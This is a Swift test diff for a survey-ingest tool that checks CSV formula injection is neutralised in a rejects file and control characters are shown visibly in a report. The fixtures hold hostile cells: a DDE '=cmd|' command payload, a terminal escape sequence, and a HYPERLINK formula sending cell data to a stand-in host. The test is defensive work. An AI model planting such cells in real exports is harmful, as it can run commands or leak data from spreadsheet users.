@@ -1,6 +1,7 @@
 import Configuration
 import Core
 import Foundation
+import Support
 import Testing
 @testable import Ingest
 import TestFixtures
@@ -322,5 +323,38 @@ import TableFiles
         let again = try survey.ingest(year: 2012)
         #expect(again.rejectsCSV == year.rejectsCSV)
         #expect(again.report.text(year: 2012) == text)
+    }
+
+    // MARK: Hostile cells (issue 19)
+
+    /// rejects.csv keeps original rows, but a cell a spreadsheet would run (`=HYPERLINK(…)` typed
+    /// as a gemeente's name, a header `=cmd|…`) is written as text; read back (libcsv), every
+    /// cell's original is restored by `CSVWriter.originalCell`. A plain negative number stays.
+    /// The report file shows control characters of the export visibly.
+    @Test func formulaCellsInRejectsAreTextAndControlCharactersInTheReportAreVisible() throws {
+        let header = "Naam;E-mailadres;Naam van uw gemeente;Ingevuld op;Aantal volgers Twitter;Burgers informeren;Kanalen - LinkedIn;Kanalen - Twitter;Wie gebruikt sociale media?;Opmerkingen;IP-adres;=cmd|' /C calc'!A0\u{1B}[2J"
+        let hostile = ["@Jan", "-jan@example.nl", "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Hoorn\"\")\"", "14-05-2012 09:31", "-3",
+                       "Soms", "", "", "", "+31 6 12345678", "", "=1+1"]
+        let export = [header, "Jan;jan@example.nl;Hoorn;14-05-2012 09:31;1.212;Soms;ja;;;;;", hostile.joined(separator: ";")]
+        let survey = try Self.survey(export: Array((export.joined(separator: "\r\n") + "\r\n").utf8))
+        let year = try survey.ingest(year: 2012)
+        #expect(year.rejects.map(\.reason) == [.unknownGemeente])
+        let reports = survey.folder.url.appendingPathComponent("Reports")
+        try year.writeReports(to: reports, inputs: [])
+
+        let read = survey.folder.readCSV("Reports/2012/rejects.csv")
+        let rows = read.records.map(\.fields)
+        #expect(read.error == nil && rows.count == 2)
+        #expect(rows[0].last == "'=cmd|' /C calc'!A0\u{1B}[2J")
+        let cells = Array(rows[1].dropFirst(3))
+        #expect(cells[0] == "'@Jan" && cells[1] == "'-jan@example.nl" && cells[4] == "-3" && cells[9] == "'+31 6 12345678")
+        #expect(cells[2] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Hoorn\")")
+        #expect(cells.map(CSVWriter.originalCell) == year.rejects[0].original)
+        #expect(rows[0].map(CSVWriter.originalCell) == ["row", "reason", "message"] + year.report.columns)
+        #expect(year.rejects[0].original[2] == "=HYPERLINK(\"http://x.example/?\"&A1,\"Hoorn\")", "the reject keeps the cell as exported")
+
+        let report = try String(contentsOf: reports.appendingPathComponent("2012/ingest-report.txt"), encoding: .utf8)
+        #expect(report.contains(#"A0\u{1B}[2J" is neither mapped nor ignored"#))
+        #expect(!report.unicodeScalars.contains("\u{1B}"))
     }
 }
